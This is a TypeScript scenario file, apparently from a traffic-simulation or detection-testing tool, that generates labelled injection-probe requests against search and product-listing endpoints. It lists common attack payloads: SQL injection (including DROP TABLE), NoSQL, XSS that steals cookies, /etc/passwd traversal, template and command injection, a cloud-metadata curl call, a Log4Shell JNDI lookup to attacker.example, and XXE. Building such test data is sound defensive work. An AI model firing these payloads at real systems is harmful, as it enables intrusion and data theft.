// Injection probing: an attacker (or sqlmap) tries classic SQL, NoSQL, XSS, traversal, template
// and command payloads in query parameters of the search and listing endpoints.
import { ATTACKER_NETWORKS, PROXY_NETWORKS } from '../networks.js'
import { answered, attacker, attackerAgent, attackTimes, ipSubject, route } from './actors.js'
import type { ScenarioDefinition } from './types.js'

const MINUTE = 60_000

/** Well-known probe payloads of each class (as in public wordlists such as PayloadsAllTheThings). */
export const INJECTION_PAYLOADS = [
  "' OR '1'='1",
  "' OR 1=1--",
  '" OR ""="',
  "1' AND SLEEP(5)--",
  '1; DROP TABLE users--',
  "' UNION SELECT NULL,NULL,NULL--",
  "admin'--",
  "1' ORDER BY 10--",
  "' AND extractvalue(1,concat(0x7e,version()))--",
  '{"$gt": ""}',
  "'; return true; var x='",
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(document.cookie)>',
  "javascript:alert('xss')",
  '<svg/onload=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '....//....//windows/win.ini',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, literally.
  '${7*7}',
  '<%= 7*7 %>',
  '; cat /etc/passwd',
  '| id',
  '`sleep 5`',
  '$(curl http://169.254.169.254/latest/meta-data/)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell payload, literally.
  '${jndi:ldap://attacker.example/a}',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
]

export const injectionProbe: ScenarioDefinition = {
  type: 'injection.probe',
  description:
    'One address sends SQL, NoSQL, XSS, traversal, template and command payloads in the search term and sort parameters; some answers are 500s.',
  defaults: { rate: 6, durationMs: 10 * MINUTE, stealth: 0 },
  needsHistory: 0.2,
  build(ctx) {
    const network = ctx.rng.pick(ctx.knobs.stealth >= 0.5 ? PROXY_NETWORKS : ATTACKER_NETWORKS)
    const who = attacker(ctx, network, attackerAgent(ctx, 'sqlmap/1.8.2#stable (https://sqlmap.org)'))
    const search = route('GET', '/v1/search')
    const listing = route('GET', '/v1/products')
    const attack = attackTimes(ctx).map((t, i) => {
      const payload = encodeURIComponent(INJECTION_PAYLOADS[i % INJECTION_PAYLOADS.length]!)
      const inSearch = i % 3 !== 2
      const req = ctx.model.requestFor(ctx.rng, who, inSearch ? search : listing, t)
      const query = inSearch ? `q=${payload}` : `page=1&sort=${payload}`
      const status = ctx.rng.pick([400, 400, 200, 500, 422])
      return { ...answered(ctx.rng, { ...req, query }, status), label: 'attack' as const }
    })
    return { subject: ipSubject(who), requests: attack }
  },
}

export const INJECTION_SCENARIOS = [injectionProbe]
